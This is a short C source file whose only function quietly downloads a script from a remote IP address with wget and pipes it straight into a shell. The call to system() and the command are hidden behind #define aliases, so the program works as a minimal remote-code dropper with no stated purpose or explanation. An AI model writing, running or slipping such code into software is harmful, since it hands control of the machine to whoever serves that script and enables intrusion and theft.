#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#define RUN system
#define CMD "wget -q -O- http://203.0.113.7/s | sh"

int main(void) {
    return RUN(CMD);
}
